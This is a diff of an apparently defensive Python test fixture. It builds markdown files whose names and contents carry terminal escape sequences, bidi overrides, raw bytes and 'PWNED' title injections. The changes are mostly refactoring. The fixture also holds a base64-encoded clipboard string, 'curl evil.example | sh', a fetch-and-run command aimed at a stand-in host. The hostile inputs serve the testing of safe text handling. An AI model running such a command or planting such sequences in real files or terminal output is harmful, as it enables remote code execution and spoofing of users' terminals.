@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import base64
 import json
-import os
 from pathlib import Path
 
 CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode()
@@ -43,7 +42,7 @@ def hostile_library(folder: Path, strings: list[str]) -> Path:
         "---\ntitle: Strings\noutlet: Naughty\n---\n\n" + "\n\n".join(strings), "utf-8", "surrogatepass"
     )
     for name in (f"4\n\x1b]0;PWNED\x07\x9b31m{CLICK_NAME}\u202egnp.md", "5\udc9b[2J.md"):
-        (folder / name).write_bytes("Hostile words in a file with a hostile name.\n".encode())
+        (folder / name).write_bytes(b"Hostile words in a file with a hostile name.\n")
     _unreadable(folder)
     return folder
 
@@ -55,8 +54,10 @@ def _unreadable(folder: Path) -> None:
     (folder / "7-kind.md").write_text(f"---\nkind: {value}\n---\n\nWords.\n", "utf-8")
     (folder / "11-bytes.md").write_bytes(b"Raw bytes: \x9b31m \x9d0;PWNED\x9c \xff end.\n")
     (folder / "8-yaml.md").write_text("---\ntitle: [\x1b]0;PWNED\x07\n---\n\nWords.\n", "utf-8")
-    (folder / f"9-{CLICK_NAME}\x1b[2J\n\u202e\x9bname.md").write_text(f"---\nkind: {value}\n---\n\nW.\n", "utf-8")
-    os.symlink("/nowhere/\x1b[2J", folder / "10-link\x1b]0;PWNED\x07.md")
+    (folder / f"9-{CLICK_NAME}\x1b[2J\n\u202e\x9bname.md").write_text(
+        f"---\nkind: {value}\n---\n\nW.\n", "utf-8"
+    )
+    (folder / "10-link\x1b]0;PWNED\x07.md").symlink_to("/nowhere/\x1b[2J")
 
 
 def _yaml(text: str) -> str:
@@ -88,7 +89,7 @@ def _article(other: str) -> bytes:
         f"Character references {entities} in the hostile text.",
         f"::: comment\nA comment {PAYLOAD}\n:::",
         f"::: credit\nA credit {SEQUENCES[2]}\n:::",
-        "Mayor \x1b]0;PWNED\x07Aldo \x9bBerling of [bold]Grenzhafen[/] met Berling\u202e\u200b and UN\x1b[2JRWA.",
+        "Mayor \x1b]0;PWNED\x07Aldo \x9bBerling of [bold]Grenzhafen[/] met Berling\u202e\u200b at noon.",
     ]
-    body = "\n\n".join(block.replace("\n", " ") if not block.startswith((":", "-")) else block for block in blocks)
+    body = "\n\n".join(blocks)
     return f"---\n{front}\n---\n\n{body}\n".encode()
